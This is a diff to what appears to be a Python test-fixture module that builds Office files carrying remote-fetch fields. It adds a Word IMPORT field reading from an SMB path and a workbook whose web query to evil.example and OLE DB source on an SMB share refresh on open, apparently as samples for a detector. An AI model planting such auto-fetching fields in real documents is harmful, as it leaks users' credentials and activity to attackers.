@@ -332,8 +332,39 @@ def docx_remote_fields() -> bytes:
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
             '&quot;http://evil.example/x.docx&quot; </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
             '</w:r><w:r><w:t>text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            '<w:p><w:fldSimple w:instr=" IMPORT &quot;\\\\198.51.100.7\\share\\b.wmf&quot; ">'
+            '<w:r><w:t>import</w:t></w:r></w:fldSimple></w:p>'
             '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.com/&quot; \\o &quot;link&quot; ">'
             '<w:r><w:t>site</w:t></w:r></w:fldSimple></w:p>'),
+    })
+
+
+def xlsx_data_connections() -> bytes:
+    """A workbook whose data connections (a web query and an OLE DB source
+    on an SMB path) refresh when it opens."""
+    ws = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>')
+    wb = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+          f'xmlns:r="{_R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
+    connections = ('<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                   '<connection id="1" name="web" type="4" refreshOnLoad="1">'
+                   '<webPr url="http://evil.example/q"/></connection>'
+                   '<connection id="2" name="db" type="1" refreshOnLoad="1">'
+                   '<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\198.51.100.7\\s\\d.accdb" '
+                   'command="t"/></connection></connections>')
+    return _package({
+        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_MAIN, overrides=(
+            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.worksheet+xml"/>'
+            '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.connections+xml"/>')),
+        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
+        "xl/_rels/workbook.xml.rels": (
+            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
+            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
+            f'<Relationship Id="rId2" Type="{_REL}/connections" Target="connections.xml"/></Relationships>'),
+        "xl/workbook.xml": _DECL + wb,
+        "xl/worksheets/sheet1.xml": _DECL + ws,
+        "xl/connections.xml": _DECL + connections,
     })
 
 
